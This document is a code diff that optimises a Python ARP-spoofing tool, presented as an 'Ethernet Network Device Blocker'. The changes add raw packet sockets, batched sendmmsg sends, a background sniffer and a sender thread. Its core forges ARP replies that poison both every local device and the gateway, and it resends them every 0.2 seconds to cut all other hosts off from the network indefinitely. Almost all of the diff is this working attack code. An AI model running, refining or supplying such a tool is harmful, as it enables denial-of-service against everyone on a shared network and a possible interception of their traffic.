@@ -4,9 +4,76 @@
 from scapy.all import *
 from mac_vendor_lookup import MacLookup
 import time
+import threading
+import functools
+import ctypes
+import ctypes.util
+import os
+import socket
+import struct
+import ipaddress
 
 INTERFACE = None
 
+# Addressing for INTERFACE, looked up once in main()
+GATEWAY_IP = None
+IP_RANGE = None
+MY_MAC = None
+MY_IP = None
+
+# Cached L2 socket used for sending spoofed frames
+SPOOF_SOCK = None
+
+# Frames drained by the sender thread, replaced whole after each rescan
+FRAMES = []
+BATCH = None
+SEND_INTERVAL = 0.2
+# Set by the sender thread if sending fails, before it signals the stop event
+SEND_ERROR = None
+
+ETH_P_ARP = 0x0806
+
+# Devices learned from ARP replies, filled in by the sniffer thread:
+# {ip: (mac, time.monotonic() of the last reply)}
+DEVICES = {}
+DEVICES_LOCK = threading.Lock()
+PROBE_INTERVAL = 1.0
+# A device that hasn't answered this many seconds of probes has left
+DEVICE_TIMEOUT = 5 * PROBE_INTERVAL
+PROBES = None
+
+# struct iovec / msghdr / mmsghdr from <sys/socket.h>, for sendmmsg(2)
+class IOVec(ctypes.Structure):
+    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]
+
+class MsgHdr(ctypes.Structure):
+    _fields_ = [("msg_name", ctypes.c_void_p), ("msg_namelen", ctypes.c_uint32),
+                ("msg_iov", ctypes.POINTER(IOVec)), ("msg_iovlen", ctypes.c_size_t),
+                ("msg_control", ctypes.c_void_p), ("msg_controllen", ctypes.c_size_t),
+                ("msg_flags", ctypes.c_int)]
+
+class MMsgHdr(ctypes.Structure):
+    _fields_ = [("msg_hdr", MsgHdr), ("msg_len", ctypes.c_uint)]
+
+# sendmmsg() sends a whole sweep in one syscall; Linux packet sockets only
+try:
+    if not hasattr(socket, "AF_PACKET"):
+        raise OSError("AF_PACKET not available")
+    SENDMMSG = ctypes.CDLL(ctypes.util.find_library("c"), use_errno=True).sendmmsg
+    SENDMMSG.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_uint, ctypes.c_int]
+    SENDMMSG.restype = ctypes.c_int
+except (OSError, AttributeError, TypeError):
+    SENDMMSG = None
+
+def mac_bytes(mac):
+    """'aa:bb:cc:dd:ee:ff' -> 6 raw bytes"""
+    return bytes.fromhex(mac.replace(":", "").replace("-", ""))
+
+def make_arp(op, src_mac, src_ip, dst_mac, dst_ip, eth_dst):
+    """Pack an Ethernet + ARP frame (42 bytes); addresses are raw bytes"""
+    return struct.pack("!6s6sHHHBBH6s4s6s4s", eth_dst, src_mac, ETH_P_ARP,
+                       1, 0x0800, 6, 4, op, src_mac, src_ip, dst_mac, dst_ip)
+
 def get_active_interface():
     """List available interfaces and let user choose"""
     ifaces = get_if_list()
@@ -24,66 +91,231 @@ def get_active_interface():
         print("Invalid selection.")
         return None
 
-def scan_network():
-    """Scan the network and return a list of devices"""
-    global INTERFACE
-    if not INTERFACE:
-        return []
-    
-    gateway_ip = conf.route.route("0.0.0.0")[2]
-    ip_range = f"{gateway_ip}/24"
+def record_device(pkt):
+    """Sniffer callback: remember the sender of every ARP reply"""
+    # Without a compiled BPF filter (no libpcap) every packet arrives here
+    if ARP in pkt and pkt[ARP].op == 2:
+        with DEVICES_LOCK:
+            DEVICES[pkt[ARP].psrc] = (pkt[ARP].hwsrc, time.monotonic())
+
+@functools.lru_cache(maxsize=None)
+def cached_getmacbyip(ip):
+    """getmacbyip() that only resolves each address once"""
+    return getmacbyip(ip)
+
+class RawArpSniffer:
+    """AsyncSniffer stand-in that parses ARP replies off an AF_PACKET socket"""
+
+    def __init__(self, my_mac):
+        self.my_mac = mac_bytes(my_mac)
+        self.stop_event = threading.Event()
+        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
+        self.sock.bind((INTERFACE, ETH_P_ARP))
+        # Wake up now and then to notice stop()
+        self.sock.settimeout(0.5)
+        self.thread = threading.Thread(target=self.run, daemon=True)
+
+    def start(self):
+        self.thread.start()
 
-    ans, _ = srp(
-        Ether(dst="ff:ff:ff:ff:ff:ff")/ARP(pdst=ip_range),
-        timeout=2,
+    def run(self):
+        with self.sock:
+            while not self.stop_event.is_set():
+                try:
+                    buf = self.sock.recv(60)
+                except socket.timeout:
+                    continue
+                except OSError:
+                    return  # e.g. interface went down; the main loop reports it
+                # Only ARP replies addressed to us, same offsets as block_One's scan
+                if len(buf) < 42 or buf[12:14] != b"\x08\x06" or buf[20:22] != b"\x00\x02":
+                    continue
+                sender_mac = buf[22:28]
+                if sender_mac == self.my_mac or buf[32:38] != self.my_mac:
+                    continue
+                with DEVICES_LOCK:
+                    DEVICES[socket.inet_ntoa(buf[28:32])] = (
+                        ":".join(f"{b:02x}" for b in sender_mac), time.monotonic())
+
+    def stop(self):
+        self.stop_event.set()
+        self.thread.join()
+
+def start_sniffer(my_mac):
+    """Collect ARP replies addressed to us in the background"""
+    if hasattr(socket, "AF_PACKET"):
+        # Skips building a Scapy packet for every reply
+        sniffer = RawArpSniffer(my_mac)
+        sniffer.start()
+        return sniffer
+    sniffer = AsyncSniffer(
+        filter=f"arp and ether dst {my_mac}",
         iface=INTERFACE,
-        verbose=False
+        prn=record_device,
+        store=False
     )
+    sniffer.start()
+    return sniffer
+
+def scan_network(ip_range, my_mac, my_ip):
+    """Send ARP requests for ip_range and return the devices still answering"""
+    global PROBES
+    if not INTERFACE:
+        return []
+
+    # Replies are picked up by the sniffer, so nothing here waits on them
+    if PROBES is None:
+        src_mac = mac_bytes(my_mac)
+        src_ip = socket.inet_aton(my_ip)
+        PROBES = [make_arp(1, src_mac, src_ip, b"\x00" * 6, host.packed, b"\xff" * 6)
+                  for host in ipaddress.ip_network(ip_range, strict=False).hosts()]
+    for probe in PROBES:
+        SPOOF_SOCK.send(probe)
+
+    cutoff = time.monotonic() - DEVICE_TIMEOUT
+    with DEVICES_LOCK:
+        for ip in [ip for ip, (_, seen) in DEVICES.items() if seen < cutoff]:
+            del DEVICES[ip]
+        return [(ip, mac) for ip, (mac, _) in DEVICES.items()]
+
+def build_frames(devices_to_block, gateway_ip, gateway_mac, my_mac):
+    """Pack the (to_victim, to_gateway) ARP reply pair for each device"""
+    my_mac = mac_bytes(my_mac)
+    gw_mac = mac_bytes(gateway_mac)
+    gw_ip = socket.inet_aton(gateway_ip)
+    frames = []
+    for ip, mac in devices_to_block:
+        victim_mac = mac_bytes(mac)
+        victim_ip = socket.inet_aton(ip)
+        frames.append((make_arp(2, my_mac, gw_ip, victim_mac, victim_ip, eth_dst=victim_mac),
+                       make_arp(2, my_mac, victim_ip, gw_mac, gw_ip, eth_dst=gw_mac)))
+    return frames
+
+def build_batch(frames):
+    """Point one mmsghdr at each frame so a sweep is a single sendmmsg() call"""
+    raws = [raw for pair in frames for raw in pair]
+    bufs = [ctypes.create_string_buffer(raw, len(raw)) for raw in raws]
+    iovs = (IOVec * len(raws))()
+    msgs = (MMsgHdr * len(raws))()
+    for i, buf in enumerate(bufs):
+        iovs[i].iov_base = ctypes.addressof(buf)
+        iovs[i].iov_len = len(buf)
+        msgs[i].msg_hdr.msg_iov = ctypes.pointer(iovs[i])
+        msgs[i].msg_hdr.msg_iovlen = 1
+    # bufs and iovs are returned too so they live as long as msgs
+    return msgs, len(raws), (bufs, iovs)
 
-    my_mac = get_if_hwaddr(INTERFACE)
-    devices = []
-    for _, rcv in ans:
-        if rcv.hwsrc != my_mac:
-            devices.append((rcv.psrc, rcv.hwsrc))
-    return devices
+def send_batch(sock, batch):
+    """Send every frame of a batch, retrying if the kernel takes only part"""
+    msgs, count, _ = batch
+    done = 0
+    while done < count:
+        sent = SENDMMSG(sock.fileno(), ctypes.addressof(msgs[done]), count - done, 0)
+        if sent < 0:
+            err = ctypes.get_errno()
+            raise OSError(err, os.strerror(err))
+        done += sent
+
+def sender_loop(sock, stop_event):
+    """Send every queued frame pair once per SEND_INTERVAL, until stopped"""
+    global SEND_ERROR
+    next_tick = time.monotonic()
+    while not stop_event.is_set():
+        try:
+            batch = BATCH
+            if batch is not None:
+                send_batch(sock, batch)
+            else:
+                for to_victim, to_gateway in FRAMES:
+                    sock.send(to_victim)
+                    sock.send(to_gateway)
+        except OSError as e:
+            # Don't die silently: the main loop sees the event and reports it
+            SEND_ERROR = e
+            stop_event.set()
+            return
+        # Sleep only what is left of the period, so sweep time doesn't add up
+        next_tick += SEND_INTERVAL
+        delay = next_tick - time.monotonic()
+        if delay > 0:
+            stop_event.wait(delay)
+        else:
+            next_tick = time.monotonic()  # sweep overran, don't try to catch up
 
 def block_all_devices_forever():
-    """Block all devices continuously, rescan network each loop"""
-    gateway_ip = conf.route.route("0.0.0.0")[2]
-    gateway_mac = getmacbyip(gateway_ip)
+    """Block all devices continuously, re-probing the network each loop
+
+    Devices that stop answering for DEVICE_TIMEOUT seconds are dropped.
+    """
+    global FRAMES, BATCH, SEND_ERROR
+    gateway_mac = cached_getmacbyip(GATEWAY_IP)
     if not gateway_mac:
         print("Could not get gateway MAC address!")
         return
     
-    my_ip = get_if_addr(INTERFACE)
+    excluded = {MY_IP, GATEWAY_IP}
+    FRAMES = []
+    BATCH = None
+    SEND_ERROR = None
+    known = set()
+
+    # Sending happens on its own thread so the cadence does not depend on
+    # how long a rescan takes; this thread only keeps FRAMES up to date.
+    stop_event = threading.Event()
+    sender = threading.Thread(target=sender_loop, args=(SPOOF_SOCK, stop_event), daemon=True)
+    sender.start()
+    sniffer = start_sniffer(MY_MAC)
 
     print("[+] Blocking ALL devices on the network... Press CTRL+C to stop.")
     try:
         while True:
-            devices = scan_network()
-            devices_to_block = [(ip, mac) for ip, mac in devices if ip not in [my_ip, gateway_ip]]
-            
-            for ip, mac in devices_to_block:
-                pkt_to_victim = Ether(dst=mac) / ARP(op=2, pdst=ip, psrc=gateway_ip, hwdst=mac)
-                pkt_to_gateway = Ether(dst=gateway_mac) / ARP(op=2, pdst=gateway_ip, psrc=ip, hwdst=gateway_mac)
-                sendp(pkt_to_victim, iface=INTERFACE, verbose=False)
-                sendp(pkt_to_gateway, iface=INTERFACE, verbose=False)
-            
-            time.sleep(0.2)  # سرعة التكرار
+            devices = scan_network(IP_RANGE, MY_MAC, MY_IP)
+            devices_to_block = [(ip, mac) for ip, mac in devices if ip not in excluded]
+
+            # Only rebuild the frames when the set of devices changes
+            current = set(devices_to_block)
+            if current != known:
+                frames = build_frames(devices_to_block, GATEWAY_IP, gateway_mac, MY_MAC)
+                BATCH = build_batch(frames) if SENDMMSG and frames else None
+                FRAMES = frames
+                known = current
+
+            # The event is only set early if the sender thread failed
+            if stop_event.wait(PROBE_INTERVAL):
+                print(f"\n[!] Sending spoofed frames failed: {SEND_ERROR}")
+                break
+            # Without the sniffer every device would silently age out
+            if not sniffer.thread.is_alive():
+                print("\n[!] ARP sniffer stopped unexpectedly; no devices can be found")
+                break
     except KeyboardInterrupt:
         print("\n[!] Stopped blocking all devices")
+    finally:
+        stop_event.set()
+        sender.join()
+        if sniffer.thread.is_alive():
+            sniffer.stop()
 
 def main():
     print("Ethernet Network Device Blocker")
     print("="*40)
 
-    global INTERFACE
+    global INTERFACE, SPOOF_SOCK, GATEWAY_IP, IP_RANGE, MY_MAC, MY_IP
     INTERFACE = get_active_interface()
     if not INTERFACE:
         print("No active interface found!")
         return
 
-    block_all_devices_forever()
+    GATEWAY_IP = conf.route.route("0.0.0.0")[2]
+    IP_RANGE = f"{GATEWAY_IP}/24"
+    MY_MAC = get_if_hwaddr(INTERFACE)
+    MY_IP = get_if_addr(INTERFACE)
+
+    SPOOF_SOCK = conf.L2socket(iface=INTERFACE)
+    try:
+        block_all_devices_forever()
+    finally:
+        SPOOF_SOCK.close()
 
 if __name__ == "__main__":
     main()